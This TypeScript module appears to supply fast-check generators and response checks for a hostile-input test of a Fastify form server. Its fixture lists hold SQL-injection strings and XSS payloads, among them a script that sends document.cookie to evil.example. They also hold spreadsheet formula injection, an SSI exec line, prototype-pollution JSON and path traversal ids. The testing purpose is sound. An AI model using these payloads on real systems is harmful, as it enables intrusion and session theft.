import zlib from "node:zlib";
import fc from "fast-check";
import type { FastifyInstance, LightMyRequestResponse } from "fastify";
import { BUDGET_OPTIONS, HONEYPOT_FIELD, PLATFORM_OPTIONS } from "#contracts/form-constants.ts";

// Generators and checks of the property-based hostile-input test (server/hostile-input.test.ts):
// junk bodies, odd content types, header values, query strings, path ids and the classic
// SQL-injection and script payloads, inside otherwise valid-looking form fields.

export const SQL_INJECTION = [
  "'; DROP TABLE submissions; --",
  "' OR '1'='1",
  '" OR ""="',
  "1' OR 1=1 --",
  "admin'--",
  "'); DELETE FROM subscribers; --",
  "' UNION SELECT username, password_hash FROM admin_users --",
  "%' AND 1=1 --",
  "_%\\%\\_",
  "\\'; SELECT pg_sleep(5); --",
  "1; UPDATE admin_users SET password_hash = 'x' --",
  "' || (SELECT token_hash FROM admin_sessions LIMIT 1) || '",
  "'; ATTACH DATABASE '/tmp/pwn.db' AS pwn; --",
  "$1 $2 ? :name @p0",
  "Robert'); DROP TABLE students;--",
  "' AND json_extract(data, '$.email') LIKE '%",
  "') OR data::jsonb ? 'email' --",
] as const;

export const SCRIPT_INJECTION = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(document.cookie)>",
  '"><svg onload=alert(1)>',
  "javascript:alert(1)",
  "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "{{constructor.constructor('alert(1)')()}}",
  "${7*7} #{7*7} <%= 7*7 %>",
  '=HYPERLINK("http://evil.example","click")',
  "+cmd|' /C calc'!A0",
  '<!--#exec cmd="ls"-->',
] as const;

/** Odd but well-formed text: control characters, bidi overrides, emoji, combining marks. */
export const ODD_TEXT = [
  "\u0000",
  "nul\u0000inside",
  "\u202eevil\u202c",
  "\u2028\u2029",
  "e\u0301\u0301\u0301",
  "👩🏽‍💻 𝕳𝖊𝖑𝖑𝖔",
  "\uFEFFbom",
  "tab\tand\r\nnewline",
  '\\u0000 \\n \\"',
  "__proto__",
  "constructor",
  "null",
  " ",
] as const;

export const HOSTILE_STRINGS: readonly string[] = [...SQL_INJECTION, ...SCRIPT_INJECTION, ...ODD_TEXT];

/** SQL-looking e-mail addresses that the shared e-mail rule accepts. */
export const SQL_LOOKING_EMAILS = [
  "o'reilly--@example.com",
  "x'or'1--@example.com",
  "union+select--@example.in",
  "'drop'table'--@example.org",
  "Admin'--@Example.COM",
] as const;

const ascii = (min: number, max: number) => fc.integer({ min, max }).map((code) => String.fromCharCode(code));

/** A header value the HTTP parser lets through: visible ASCII, space, tab and obs-text bytes. */
export const headerValue = fc.oneof(
  fc.string({
    unit: fc.oneof({ weight: 8, arbitrary: ascii(0x20, 0x7e) }, ascii(0x80, 0xff), fc.constant("\t")),
    maxLength: 60,
  }),
  fc.constantFrom(...HOSTILE_STRINGS.filter((s) => /^[\t\x20-\x7e]*$/.test(s))),
);

/** Any text a field might hold: hostile samples, random text, lone surrogates, mixes. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...HOSTILE_STRINGS), fc.string({ maxLength: 8 }))
      .map((parts) => parts.join("")),
  },
  { weight: 1, arbitrary: fc.constantFrom("x".repeat(101), "y".repeat(5001), "z".repeat(255)) },
);

/** A JSON value of any shape, hostile strings included. */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: hostileText },
  { weight: 1, arbitrary: fc.dictionary(fc.constantFrom(...HOSTILE_STRINGS), fc.jsonValue({ maxDepth: 2 })) },
);

/** A strict field (phone, e-mail, URL, option): usually valid, else hostile text, another JSON type or missing. */
function field<T>(valid: fc.Arbitrary<T>): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 40, arbitrary: valid },
    { weight: 2, arbitrary: hostileText },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );
}

/** A free-text field (name, message): valid text or hostile text, which is mostly valid there too. */
function text<T>(valid: fc.Arbitrary<T>): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 10, arbitrary: valid },
    { weight: 20, arbitrary: hostileText },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );
}

const validName = fc.constantFrom("Asha Verma", "Ravi Kumar", "  Meera Iyer  ");
const validPhone = fc.constantFrom("+91 98765 43210", "(022) 2345-6789", "9876543210");
/** Addresses the shared e-mail rule accepts (fast-check's emailAddress() allows more than it does). */
export const validEmail = fc.oneof(
  fc.constantFrom("asha@example.in", "RAVI@Example.COM", ...SQL_LOOKING_EMAILS),
  fc.mixedCase(fc.stringMatching(/^[a-z0-9_'+-]{0,10}[a-z0-9_+-]@[a-z0-9]{1,10}\.(com|in|org|co\.uk)$/)),
);
const validUrl = fc.constantFrom(
  "",
  "https://asha.example",
  "http://shop.example/path?q=<script>alert(1)</script>",
  "https://example.com/'--",
);
const validMessage = fc.constantFrom("We need more leads from Google Ads.", "Please call me back.");
const honeypot = fc.oneof(
  { weight: 8, arbitrary: fc.constant(undefined) },
  { weight: 2, arbitrary: fc.constant("") },
  { weight: 1, arbitrary: anyJson },
);

/** A submission envelope that is valid or close to it, with hostile text in some fields. */
export const lookingValidSubmission: fc.Arbitrary<Record<string, unknown>> = fc.oneof(
  fc.record({
    type: field(fc.constant("contact")),
    data: fc.record({
      fullName: text(validName),
      contactNumber: field(validPhone),
      email: field(validEmail),
      website: field(validUrl),
      message: text(validMessage),
    }),
    [HONEYPOT_FIELD]: honeypot,
  }),
  fc.record({
    type: field(fc.constant("quote")),
    data: fc.record({
      source: fc.oneof(
        { weight: 10, arbitrary: fc.constantFrom(undefined, "quote-page", "home") },
        { weight: 1, arbitrary: hostileText },
      ),
      fullName: text(validName),
      contactNumber: field(validPhone),
      email: field(validEmail),
      websiteUrl: field(validUrl),
      monthlyBudget: field(fc.constantFrom(...BUDGET_OPTIONS)),
      platforms: field(fc.subarray([...PLATFORM_OPTIONS])),
      goals: text(validMessage),
    }),
    [HONEYPOT_FIELD]: honeypot,
  }),
  fc.record({
    type: field(fc.constant("application")),
    data: fc.record({
      openingId: field(fc.constantFrom("", "seo-specialist", "performance-marketer")),
      openingTitle: text(fc.constantFrom("", "SEO Specialist")),
      fullName: text(validName),
      email: field(validEmail),
      contactNumber: field(validPhone),
      portfolioUrl: field(validUrl.filter((url) => url !== "")),
      coverNote: text(validMessage),
    }),
    [HONEYPOT_FIELD]: honeypot,
  }),
);

/** Text that is not JSON, or JSON that a safe parser must refuse. */
export const malformedJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "",
    " ",
    "{",
    "}",
    '{"type":',
    '{"type":"contact","data":',
    '{"type":"contact","data":{"fullName":"Asha"',
    "[1,2",
    '{"a":1,}',
    "{'type':'contact'}",
    "{type:contact}",
    "NaN",
    "undefined",
    "-",
    "1e999",
    "01",
    '"unterminated',
    '{"__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"type":"contact","data":{"__proto__":{"polluted":1}}}',
    '{"email":"a@example.com","__proto__":{"x":1}}',
    '{"url":"https://example.com","__proto__":{"x":1}}',
    '{"username":"staff","constructor":{"prototype":{"x":1}}}',
    "\uFEFF{}",
    "\u0000",
    '{"a":"\\ud800"}',
    "type=contact&data[fullName]=Asha",
    "<xml><type>contact</type></xml>",
    "[".repeat(5000),
    `${"[".repeat(2000)}${"]".repeat(2000)}`,
    `{"type":"contact","data":${'{"a":'.repeat(1000)}1${"}".repeat(1000)}}`,
  ),
  fc.json({ maxDepth: 3 }).map((text) => text.slice(0, Math.max(0, text.length - 1))),
  fc.string({ unit: "binary", maxLength: 80 }),
);

export type Payload = string | Buffer | undefined;

/** Any body: JSON values, broken JSON, raw bytes, nothing, or one over the 32 KB limit. */
export const hostileBody: fc.Arbitrary<Payload> = fc.oneof(
  { weight: 4, arbitrary: anyJson.map((value) => JSON.stringify(value) ?? "null") },
  { weight: 3, arbitrary: malformedJson },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes)) },
  { weight: 1, arbitrary: fc.constant(undefined) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      JSON.stringify({ type: "contact", data: { message: "x".repeat(40_000) } }),
      JSON.stringify({ email: `${"a".repeat(40_000)}@example.com`, url: "x".repeat(40_000) }),
    ),
  },
);

/** Content types: mostly JSON, then near-misses, other types, junk, or none at all. */
export const contentType: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 8, arbitrary: fc.constant("application/json") },
  {
    weight: 6,
    arbitrary: fc.constantFrom(
      "application/json; charset=utf-8",
      "application/json; charset=UTF-16",
      'application/json; charset="bogus"',
      "APPLICATION/JSON",
      "application/json ; q=1",
      "application/json, text/plain",
      "application/jsonx",
      "application/vnd.api+json",
      "application/ld+json",
      "text/json",
      "text/plain",
      "text/plain; charset=utf-8",
      "text/html",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=----hostile",
      "multipart/form-data",
      "application/xml",
      "application/msword",
      "application/octet-stream",
      "*/*",
      "",
      ";",
      "application/",
      "json",
    ),
  },
  { weight: 2, arbitrary: headerValue },
  { weight: 2, arbitrary: fc.constant(undefined) },
);

const HEADER_NAMES = [
  "accept",
  "accept-encoding",
  "accept-language",
  "user-agent",
  "referer",
  "x-forwarded-for",
  "x-forwarded-host",
  "x-forwarded-proto",
  "x-real-ip",
  "x-http-method-override",
  "authorization",
  "range",
  "if-none-match",
  "if-modified-since",
  "content-encoding",
  "expect",
  "forwarded",
] as const;

/** Extra request headers with random values (never those that frame the body or the origin). */
export const randomHeaders: fc.Arbitrary<Record<string, string>> = fc.dictionary(
  fc.oneof(fc.constantFrom(...HEADER_NAMES), fc.stringMatching(/^x-[a-z0-9-]{1,12}$/)),
  fc.oneof(
    headerValue,
    fc.constantFrom("gzip, br", "br;q=abc", "gzip;q=0, *;q=1", "identity;q=0", "deflate", "*", "compress, x-gzip"),
  ),
  { maxKeys: 4 },
);

const queryKey = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom("type", "q", "cursor", "limit", "format") },
  { weight: 1, arbitrary: fc.constantFrom("__proto__", "constructor", "toString", "q[]", "type[0]", "limit[$gt]") },
  { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
);

const queryValue = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      "all",
      "contact",
      "quote",
      "application",
      "Contact",
      "json",
      "csv",
      "xml",
      "CSV",
      "0",
      "-1",
      "1",
      "200",
      "201",
      "1e2",
      "2.5",
      "NaN",
      "Infinity",
      "0x10",
      " 5 ",
      "",
      "9007199254740993",
    ),
  },
  { weight: 4, arbitrary: hostileText },
  { weight: 1, arbitrary: fc.integer().map(String) },
  { weight: 1, arbitrary: fc.double().map(String) },
  // Cursors: base64url of any JSON, and well-formed ones carrying junk.
  { weight: 2, arbitrary: anyJson.map((value) => Buffer.from(JSON.stringify(value) ?? "").toString("base64url")) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        fc.oneof(hostileText, fc.constant("2026-11-22T10:00:00.000Z")),
        fc.oneof(fc.integer(), fc.constantFrom(2 ** 31, 2 ** 53 - 1, -(2 ** 53) + 1, 0)),
      )
      .map((cursor) => Buffer.from(JSON.stringify(cursor)).toString("base64url")),
  },
);

/** A query string ("" or "?a=b&…"), usually percent-encoded, sometimes raw. */
export const queryString: fc.Arbitrary<string> = fc
  .tuple(fc.array(fc.tuple(queryKey, queryValue), { maxLength: 5 }), fc.boolean())
  .map(([pairs, raw]) => {
    if (pairs.length === 0) return "";
    const encode = raw ? (s: string) => s.replace(/[#\s]/g, encodeURIComponent) : encodeURIComponent;
    return `?${pairs.map(([key, value]) => `${encode(key)}=${encode(value)}`).join("&")}`;
  });

/** A path segment standing where an id belongs. */
export const pathId: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.integer({ min: -3, max: 60 }).map(String) },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      "",
      "-0",
      "00",
      "01",
      "1.0",
      "1.5",
      "1e3",
      "1e309",
      "0x10",
      "0b1",
      "0o7",
      "%201",
      "1%20",
      "+1",
      "Infinity",
      "-Infinity",
      "NaN",
      "null",
      "true",
      "%5B%5D",
      "2147483647",
      "2147483648",
      "4294967296",
      "9007199254740991",
      "9007199254740992",
      "99999999999999999999",
      "1%3BDROP%20TABLE%20submissions",
      "1%20OR%201%3D1",
      "1'--",
      "..",
      "%2e%2e",
      "..%2f..%2fstats",
      "%00",
      "%",
      "%zz",
      "%E9",
      "%D9%A3",
      "%EF%BC%91",
      "%F0%9D%9F%8F",
    ),
  },
  { weight: 1, arbitrary: fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n }).map(String) },
  // Past a 32-bit integer column, within JavaScript's safe integers.
  { weight: 1, arbitrary: fc.integer({ min: 2 ** 31 - 2, max: Number.MAX_SAFE_INTEGER }).map(String) },
  { weight: 2, arbitrary: hostileText.map(encodeURIComponent) },
);

export type Method = "GET" | "POST" | "PUT" | "PATCH" | "DELETE" | "HEAD" | "OPTIONS";
export const anyMethod = fc.constantFrom<Method>("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS");

/** Where a request comes from: mostly fresh addresses, sometimes one of two busy ones (429s). */
export const remoteAddress = fc.oneof(
  { weight: 8, arbitrary: fc.ipV4() },
  { weight: 1, arbitrary: fc.ipV6() },
  { weight: 2, arbitrary: fc.constantFrom("198.51.100.23", "2001:db8::23") },
);

export interface HostileRequest {
  method: Method;
  url: string;
  headers: Record<string, string>;
  payload?: Payload;
  remoteAddress?: string;
}

export function withBody(
  headers: Record<string, string>,
  type: string | undefined,
  payload: Payload,
): Pick<HostileRequest, "headers" | "payload"> {
  return { headers: type === undefined ? headers : { ...headers, "content-type": type }, payload };
}

/** Counts requests per address and tallies answers, for the rate-limit oracle and the summary. */
export class RequestLog {
  private readonly byAddress = new Map<string, number>();
  readonly tally = new Map<string, Map<number, number>>();

  /** How many requests this address has sent before (over the whole file, every route). */
  sentFrom(address: string): number {
    return this.byAddress.get(address) ?? 0;
  }

  async send(app: FastifyInstance, endpoint: string, request: HostileRequest): Promise<LightMyRequestResponse> {
    const address = request.remoteAddress ?? "127.0.0.1";
    this.byAddress.set(address, this.sentFrom(address) + 1);
    const response = await app.inject({
      method: request.method,
      url: request.url,
      headers: request.headers,
      ...(request.payload !== undefined ? { payload: request.payload } : {}),
      remoteAddress: address,
    });
    const statuses = this.tally.get(endpoint) ?? new Map<number, number>();
    statuses.set(response.statusCode, (statuses.get(response.statusCode) ?? 0) + 1);
    this.tally.set(endpoint, statuses);
    return response;
  }

  total(): number {
    let sum = 0;
    for (const statuses of this.tally.values()) for (const count of statuses.values()) sum += count;
    return sum;
  }

  summary(): string {
    return [...this.tally]
      .map(([endpoint, statuses]) => {
        const counts = [...statuses].sort(([a], [b]) => a - b).map(([status, n]) => `${status}×${n}`);
        return `  ${endpoint}: ${counts.join(" ")}`;
      })
      .join("\n");
  }
}

/** The answer's body as text, decompressed when the client asked for compression. */
export function bodyText(response: LightMyRequestResponse): string {
  const encoding = String(response.headers["content-encoding"] ?? "").toLowerCase();
  if (encoding === "br") return zlib.brotliDecompressSync(response.rawPayload).toString("utf8");
  if (encoding === "gzip") return zlib.gunzipSync(response.rawPayload).toString("utf8");
  if (encoding === "deflate") return zlib.inflateSync(response.rawPayload).toString("utf8");
  return response.body;
}

export function describeRequest(request: HostileRequest): string {
  const payload = request.payload;
  const preview =
    payload === undefined
      ? "(none)"
      : Buffer.isBuffer(payload)
        ? `<${payload.length} bytes>`
        : JSON.stringify(payload.length > 300 ? `${payload.slice(0, 300)}…(${payload.length} chars)` : payload);
  return `${request.method} ${request.url} from ${request.remoteAddress ?? "127.0.0.1"} headers=${JSON.stringify(request.headers)} body=${preview}`;
}

/**
 * The properties every answer must have: never 5xx, and every 4xx is JSON with a non-empty
 * string `error`. Returns the parsed body of a JSON answer (undefined otherwise).
 */
export function checkAnswer(request: HostileRequest, response: LightMyRequestResponse): unknown {
  const status = response.statusCode;
  const where = () => `${describeRequest(request)}\n  → ${status} ${response.body.slice(0, 300)}`;
  if (status >= 500) throw new Error(`5xx answer: ${where()}`);
  const type = String(response.headers["content-type"] ?? "");
  const isJson = /^application\/json\b/.test(type);
  if (status >= 400 && request.method !== "HEAD") {
    if (!isJson) throw new Error(`4xx answer is not JSON (${type}): ${where()}`);
    let parsed: unknown;
    try {
      parsed = JSON.parse(bodyText(response));
    } catch {
      throw new Error(`4xx answer is not valid JSON: ${where()}`);
    }
    const error = (parsed as { error?: unknown } | null)?.error;
    if (typeof error !== "string" || error.trim() === "") {
      throw new Error(`4xx answer has no string "error": ${where()}`);
    }
    return parsed;
  }
  if (isJson && request.method !== "HEAD" && response.rawPayload.length > 0) {
    try {
      return JSON.parse(bodyText(response));
    } catch {
      throw new Error(`JSON answer does not parse: ${where()}`);
    }
  }
  return undefined;
}
